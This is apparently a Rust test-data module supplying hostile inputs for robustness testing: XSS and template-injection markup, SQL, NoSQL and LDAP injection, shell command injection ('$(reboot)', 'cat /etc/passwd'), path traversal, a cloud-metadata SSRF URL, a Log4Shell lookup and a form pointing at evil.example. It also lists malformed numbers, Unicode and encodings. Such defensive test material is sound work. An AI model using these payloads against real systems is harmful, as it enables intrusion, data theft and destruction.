//! Hostile texts, shared by the families.

use super::case::{escaped, mark};

/// Markup that does harm where it is taken for a part of a document, a script, or a template.
pub(crate) const MARKUP: [&str; 20] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "</title><style>*{display:none}</style>",
    "<!-- a comment that does not end",
    "--><b>x</b><!--",
    "]]><x xmlns=\"y\"/>",
    "<![CDATA[<b>x</b>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x&#62; &amp;amp; &quot",
    "</textarea></select></form><form action=//evil.example>",
    "<base href=\"//evil.example/\"><meta http-equiv=refresh content=\"0\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<!DOCTYPE x [<!ENTITY a \"b\">]>&a;",
    "\\u003cscript\\u003e \u{2028}\u{2029} \\\";alert(1)//",
    "{{7*7}} ${7*7} <%= 7*7 %> <?php x ?>",
    "</p></div></main></body></html><h1>x",
];

/// Texts that do harm where they are taken for a query, a command, a path, or a name of the language.
const CODE: &str = "' OR '1'='1¶1; DROP TABLE products;--¶1 UNION SELECT NULL,NULL¶{\"$gt\":\"\"}¶\
    *)(uid=*))(|(uid=*¶$(reboot)¶`id`; cat /etc/passwd | ls¶../../../../etc/passwd¶\
    ..\\..\\windows\\win.ini¶file:///etc/passwd¶/proc/self/environ\0.html¶\
    http://169.254.169.254/latest/meta-data/¶gopher://[::1]:6379/_FLUSHALL¶#{7*7} {%raw%} {0}{1} %s%s%s%n¶\
    ${jndi:ldap://evil.example/a}¶javascript:alert(1)¶data:text/html,<script>alert(1)</script>¶__proto__¶\
    constructor[prototype]¶\r\nSet-Cookie: a=b¶\r\n\r\n<html>¶\n\t\u{b}\u{c}¶\0\u{7f}¶true¶null¶undefined¶\
    [object Object]";

/// Each hostile text, with a mark of its own.
pub(crate) fn payloads() -> Vec<String> {
    MARKUP.into_iter().chain(CODE.split('¶')).map(|text| format!("{text}{}", mark())).collect()
}

/// Numbers and what passes for them: odd spellings, and those beside the limits of the machine's types.
pub(crate) fn numbers() -> Vec<String> {
    const SPELLINGS: [&str; 39] = [
        "0", "-0", "+0", "00", "01", "007", "-1", "+1", "1.", ".1", "1.0", "1.5", "1,5", "1_000", "1e3",
        "1E3", "1e-3", "1e308", "1e309", "-1e309", "0x10", "0b1", "0o7", "010", "NaN", "nan", "Infinity",
        "-inf", "inf", "1 ", " 1", "1\0", "１２", "١٢", "১২", "Ⅻ", "²", "½", "１",
    ];
    let around = |bits: u32| [-1, 0, 1].map(|step| ((1_i128 << bits) + step).to_string());
    let limits = [7, 8, 15, 16, 31, 32, 53, 63, 64].into_iter().flat_map(around);
    let further = ["-2147483648", "-2147483649", "1\u{200b}", "\u{feff}1"].map(str::to_owned);
    let long = [u128::MAX.to_string(), "9".repeat(50)];
    SPELLINGS.map(str::to_owned).into_iter().chain(limits).chain(further).chain(long).collect()
}

/// Texts that are written in a way that few expect, each with a mark of its own.
pub(crate) fn unicode() -> Vec<String> {
    const SEQUENCES: [&str; 17] = [
        // What other spellings of the same text become: decomposed, compatible, in another case.
        "caf\u{e9} cafe\u{301}",
        "\u{fb01}ne \u{ff2d}\u{ff35}\u{ff27}",
        "\u{d55c} \u{1112}\u{1161}\u{11ab}",
        "\u{212b}\u{c5}A\u{30a}",
        "\u{17f}\u{df}\u{1e9e}\u{131}\u{130}I\u{307}",
        "\u{3a3}\u{3c3}\u{3c2} \u{212a} \u{1c5}\u{1f2}",
        // One character of several code points, and half of one.
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466} \u{1f44d}\u{1f3fd}",
        "\u{1f1e9}\u{1f1ea} \u{1f1e9}",
        "1\u{fe0f}\u{20e3} \u{1f3f4}\u{e0067}\u{e0062}\u{e007f}",
        "a\u{fe00}\u{fe0f}\u{e0100}",
        // Other directions, and words that once crashed phones.
        "\u{627}\u{644}\u{639}\u{631}\u{628}\u{64a}\u{629} \u{5e9}\u{5dc}\u{5d5}\u{5dd}",
        "\u{644}\u{64f}\u{644}\u{64f}\u{635}\u{651}\u{628} \u{c1c}\u{c4d}\u{c1e}\u{200c}\u{c3e}",
        // No characters, private ones, and tags.
        "\u{fffd}\u{fffd}\u{fffe}\u{ffff}\u{1fffe}\u{10ffff}",
        "\u{e000}\u{f8ff}\u{100000} \u{e0001}\u{e0020}",
        "\u{fff9}a\u{fffa}b\u{fffb}",
        // What looks like markup.
        "\u{ff1c}script\u{ff1e}\u{ff02}\u{ff07}",
        "\u{201c}\u{2019}\u{2039}\u{2033}",
    ];
    // Characters that are invisible, turn the reading direction, or break lines invisibly.
    let invisible = (0x200b..=0x200f).chain(0x2028..=0x202e).chain(0x2060..=0x206f);
    let invisible = invisible.chain([0xad, 0x85, 0x61c, 0xfeff, 0x180e, 0x3164]).filter_map(char::from_u32);
    // The last one becomes 18 letters when its case is folded.
    let many = [("x", 10_000), ("\u{1f6d2}", 5_000), (" ", 10_000), ("<", 10_000), ("&", 10_000)];
    let more = [("\u{130}", 10_000), ("\u{301}", 10_000), ("a\u{300}\u{316}\u{327}", 60), ("\u{fdfa}", 100)];
    let texts = SEQUENCES.map(str::to_owned).into_iter();
    let texts = texts.chain(invisible.map(|character| format!("a{character}b{character}")));
    let texts = texts.chain(many.into_iter().chain(more).map(|(text, times)| text.repeat(times)));
    texts.map(|text| format!("{text}{}", mark())).collect()
}

/// Parts of addresses that decode to nothing, to something else, or only when decoded twice.
pub(crate) fn encoded() -> Vec<String> {
    const SHORT: [&str; 43] = [
        "%", "%%", "%%%", "%2", "%g1", "%1g", "%zz", "a%", "a%4", "%u0041", "%00", "%00.html", "a%00b",
        "%0A", "%0D", "%0D%0A", "%09", "%0B", "%7F", "%20", "%20%20", "+", "%2B", "%2F", "%2f", "%5C", "%2e",
        "%2E%2E", "%2e%2e/", ".", "..", "...", "./", "../", "..%5c", "..%2f", "..%252f", "%25252e", "%252F",
        "%2525", "%25", "%252e", "%1B%5B2J",
    ];
    // Bytes that are no UTF-8: longer than needed, alone, cut, of surrogates. Then marks and no characters.
    const BYTES: [u32; 21] = [
        0xe5988a, 0xe5988d, 0xc0ae, 0xc0aec0ae, 0xc0af, 0xc19c, 0xe080af, 0xe080ae, 0xf08080af, 0x80, 0xbf,
        0xc3, 0xe282, 0xf09f92, 0xf4908080, 0xfe, 0xff, 0xeda080, 0xedb080, 0xefbbbf, 0xefbfbe,
    ];
    let long = ["%u003Cscript%u003E", "%0D%0ASet-Cookie:%20a=b", "%F8%80%80%80%AF", "%ED%A0%BD%ED%B8%80"];
    let bytes = BYTES.map(|bytes| {
        let zeros = bytes.leading_zeros() as usize / 8;
        escaped(&bytes.to_be_bytes()[zeros..])
    });
    SHORT.into_iter().chain(long).map(str::to_owned).chain(bytes).collect()
}
